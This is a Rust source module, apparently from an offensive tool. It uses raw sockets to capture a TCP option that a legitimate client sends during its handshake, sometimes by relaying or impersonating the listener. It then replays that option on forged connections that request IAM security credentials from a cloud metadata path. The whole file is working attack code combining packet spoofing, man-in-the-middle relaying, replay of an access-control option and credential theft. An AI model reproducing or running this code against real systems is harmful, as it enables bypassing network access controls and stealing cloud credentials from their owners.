//! Makes connections by a raw socket, with an option that was recorded from another client's connection or is
//! invented.

use std::collections::HashMap;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};

use super::progress::Progress;
use super::relay::count_answer;
use super::sockets::{Receiver, Sender, silence};
use super::wire::{ACK, FIN, PSH, RST, SYN, Segment};
use super::{HandMade, Replay};

const REQUEST: &[u8] = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: x\r\n\r\n";

/// The ports that connections are made from.
const PORTS: std::ops::Range<u16> = 47_000..47_400;

/// The maximum number of concurrent connections.
const MAX_CONCURRENT: usize = 32;

/// How long a connection may wait for the listener.
const ANSWER_TIMEOUT: Duration = Duration::from_millis(1500);

/// An option for a connection, and the initial sequence numbers (ISN) with which it was recorded.
#[derive(Clone, Debug)]
struct Recorded {
    client_isn: u32,
    listener_isn: u32,
    option: Vec<u8>,
}

/// Takes part in a client's handshake, records the option that the client sends, and uses it on connections of
/// the attacker.
pub fn replay(options: &Replay, progress: &Progress, end: Instant) -> Result<()> {
    let front = Receiver::at(&options.device).context("a packet socket")?;
    let _front_port = silence(options.front).context("cannot take the front's port")?;
    let mut hand = Hand::new(options.listener, options.own)?;
    progress.add("ready", 1);
    while Instant::now() < end {
        let recorded = if options.alone {
            answer_alone(options.front, &front, progress, end)?
        } else {
            record(options.front, &front, &hand, end)?
        };
        let Some(recorded) = recorded else { break };
        progress.add("options", 1);
        for _ in 0..options.tries {
            hand.begin(&recorded)?;
            while hand.open.len() >= MAX_CONCURRENT {
                hand.step(progress)?;
            }
        }
        while !hand.open.is_empty() {
            hand.step(progress)?;
        }
    }
    Ok(())
}

/// Answers a client in the listener's place, and records the option that the client sends.
fn answer_alone(
    own: SocketAddrV4,
    front: &Receiver,
    progress: &Progress,
    end: Instant,
) -> Result<Option<Recorded>> {
    let mut buffer = [0; 4096];
    while Instant::now() < end {
        let Some((link, packet)) = front.next(&mut buffer)? else {
            continue;
        };
        if packet.destination != own {
            continue;
        }
        if packet.flags & (SYN | ACK) == SYN {
            progress.add("syns", 1);
            let mut answer = Segment::new(own, packet.source, SYN | ACK);
            answer.sequence = 0x0bad_cafe;
            answer.acknowledged = packet.next_sequence();
            // This is the listener's own option except for the tags.
            answer.options = vec![253, 12, b'M', b'P', 0, 0, 0, 0, 0, 0, 0, 0];
            front.answer(&link, &answer)?;
        } else if !packet.payload.is_empty() {
            progress.add("requests", 1);
        }
        if let Some((at, length)) = packet.our_option() {
            return Ok(Some(Recorded {
                client_isn: packet.sequence.wrapping_sub(1),
                listener_isn: packet.acknowledged.wrapping_sub(1),
                option: packet.options[at..at + length].to_vec(),
            }));
        }
    }
    Ok(None)
}

/// Forwards a client's SYN to the listener and the listener's answer to the client, and records the option that the
/// client sends then.
fn record(own: SocketAddrV4, front: &Receiver, hand: &Hand, end: Instant) -> Result<Option<Recorded>> {
    let mut buffer = [0; 4096];
    let passed_on = SocketAddrV4::new(hand.own, PORTS.end - 1);
    // Packets that have arrived since the last call belong to connections that have ended.
    while front.next(&mut buffer)?.is_some() {}
    while Instant::now() < end {
        let Some((link, mut packet)) = front.next(&mut buffer)? else {
            continue;
        };
        if packet.destination != own {
            continue;
        }
        if let Some((at, length)) = packet.our_option() {
            return Ok(Some(Recorded {
                client_isn: packet.sequence.wrapping_sub(1),
                listener_isn: packet.acknowledged.wrapping_sub(1),
                option: packet.options[at..at + length].to_vec(),
            }));
        }
        if packet.flags & (SYN | ACK) != SYN {
            continue;
        }
        let client = packet.source;
        packet.source = passed_on;
        packet.destination = hand.listener;
        hand.sender.send(&packet)?;
        let sent = Instant::now();
        while sent.elapsed() < ANSWER_TIMEOUT {
            let Some((_, mut answer)) = hand.receiver.next(&mut buffer)? else {
                continue;
            };
            if answer.destination == passed_on && answer.flags & (SYN | ACK) == SYN | ACK {
                let mut reset = Segment::new(passed_on, hand.listener, RST);
                reset.sequence = packet.next_sequence();
                hand.sender.send(&reset)?;
                answer.source = own;
                answer.destination = client;
                front.answer(&link, &answer)?;
                break;
            }
        }
    }
    Ok(None)
}

/// Makes handshakes with an invented option, or with none.
pub fn hand_made(options: &HandMade, progress: &Progress, end: Instant) -> Result<()> {
    let digits = options.option.as_bytes().chunks(2);
    let option = digits
        .map(|pair| u8::from_str_radix(&String::from_utf8_lossy(pair), 16))
        .collect::<Result<_, _>>()
        .context("--option")?;
    let recorded = Recorded {
        client_isn: 0x1234_5678,
        listener_isn: 0,
        option,
    };
    let mut hand = Hand::new(options.listener, options.own)?;
    progress.add("ready", 1);
    while Instant::now() < end {
        hand.begin(&recorded)?;
        while hand.open.len() >= MAX_CONCURRENT {
            hand.step(progress)?;
        }
    }
    Ok(())
}

struct Open {
    begun: Instant,
    recorded: Recorded,
}

/// Connections for which the kernel has no socket.
struct Hand {
    listener: SocketAddrV4,
    own: Ipv4Addr,
    sender: Sender,
    receiver: Receiver,
    open: HashMap<u16, Open>,
    next: std::iter::Cycle<std::ops::Range<u16>>,
    _silenced: Vec<OwnedFd>,
}

impl Hand {
    fn new(listener: SocketAddrV4, own: Ipv4Addr) -> Result<Self> {
        let silenced: std::io::Result<Vec<OwnedFd>> =
            PORTS.map(|port| silence(SocketAddrV4::new(own, port))).collect();
        Ok(Self {
            listener,
            own,
            sender: Sender::new(None)?,
            receiver: Receiver::local().context("a raw socket")?,
            open: HashMap::new(),
            next: PORTS.cycle(),
            _silenced: silenced.context("cannot take the ports")?,
        })
    }

    fn segment(&self, port: u16, flags: u8) -> Segment {
        Segment::new(SocketAddrV4::new(self.own, port), self.listener, flags)
    }

    fn begin(&mut self, recorded: &Recorded) -> Result<()> {
        let Some(port) = self
            .next
            .find(|port| !self.open.contains_key(port) && *port != PORTS.end - 1)
        else {
            return Ok(());
        };
        let mut syn = self.segment(port, SYN);
        syn.sequence = recorded.client_isn;
        self.sender.send(&syn)?;
        let open = Open {
            begun: Instant::now(),
            recorded: recorded.clone(),
        };
        self.open.insert(port, open);
        Ok(())
    }

    /// Handles the next packet.
    fn step(&mut self, progress: &Progress) -> Result<()> {
        let mut buffer = [0; 4096];
        if let Some((_, packet)) = self.receiver.next(&mut buffer)?
            && packet.source == self.listener
        {
            self.handle(&packet, progress)?;
        }
        let before = self.open.len();
        self.open.retain(|_, open| open.begun.elapsed() < ANSWER_TIMEOUT);
        progress.add("unanswered", (before - self.open.len()) as u64);
        Ok(())
    }

    fn handle(&mut self, packet: &Segment, progress: &Progress) -> Result<()> {
        let port = packet.destination.port();
        let Some(open) = self.open.get(&port) else {
            return Ok(());
        };
        if packet.flags & (SYN | ACK) == SYN | ACK {
            progress.add("handshakes", 1);
            if packet.sequence == open.recorded.listener_isn {
                progress.add("same_isn", 1);
            }
            let mut request = self.segment(port, ACK | PSH);
            request.sequence = open.recorded.client_isn.wrapping_add(1);
            request.acknowledged = packet.next_sequence();
            request.options = open.recorded.option.clone();
            let mut ack = request.clone();
            ack.flags = ACK;
            request.payload = REQUEST.to_vec();
            self.sender.send(&ack)?;
            self.sender.send(&request)?;
            return Ok(());
        }
        count_answer(packet, "HTTP/1.1 200", progress);
        let is_over = packet.flags & (FIN | RST) != 0 || !packet.payload.is_empty();
        if is_over {
            if packet.payload.is_empty() {
                progress.add("closed", 1);
            }
            let mut reset = self.segment(port, RST);
            reset.sequence = packet.acknowledged;
            self.sender.send(&reset)?;
            self.open.remove(&port);
        }
        Ok(())
    }
}
